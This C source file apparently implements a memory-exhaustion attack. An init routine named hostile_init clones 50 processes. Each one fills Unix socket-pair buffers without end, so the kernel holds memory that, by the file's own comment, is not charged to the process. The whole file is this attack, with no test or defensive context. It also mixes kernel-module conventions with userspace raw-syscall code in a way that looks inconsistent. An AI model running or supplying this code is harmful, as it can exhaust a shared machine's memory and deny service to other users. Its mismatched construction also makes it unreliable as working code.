// SPDX-License-Identifier: GPL-2.0
/* Memory that the host's kernel holds for a process does not count as the process's own. */
#include "raw.h"

#define SYS_SOCKETPAIR 53
#define SYS_CLONE 56
#define AF_UNIX_HOST 1
#define STREAM_NONBLOCK (1 | 04000)
#define PROCESSES 50
#define STACK 65536
#define READ_WRITE 3
#define PRIVATE_ANONYMOUS 0x22

static char text[65536];

/* KASAN's shadow is not there in it. */
__no_sanitize_address __used static void fill_for_ever(void)
{
	int pair[2], end;

	while (!raw4(SYS_SOCKETPAIR, AF_UNIX_HOST, STREAM_NONBLOCK, 0, pair))
		for (end = 0; end < 2; end++)
			while (raw3(SYS_WRITE, pair[end], text, sizeof(text)) > 0)
				;
	for (;;)
		raw0(SYS_PAUSE);
}

/* A process with a stack of its own: the machine's memory is the same for all of them. */
static void begin(void)
{
	char *stack = (char *)raw(SYS_MMAP, 0, STACK, READ_WRITE, PRIVATE_ANONYMOUS, -1, 0);
	long result = SYS_CLONE;

	asm volatile("xor %%r10d, %%r10d\n\txor %%r8d, %%r8d\n\tsyscall\n\ttest %0, %0\n\tjnz 1f\n\tcall fill_for_ever\n1:"
		     : "+a"(result)
		     : "D"(0), "S"(stack + STACK), "d"(0)
		     : "rcx", "r8", "r10", "r11", "memory");
}

static int __init hostile_init(void)
{
	int i;

	for (i = 0; i < PROCESSES; i++)
		begin();
	return 0;
}

module_init(hostile_init);
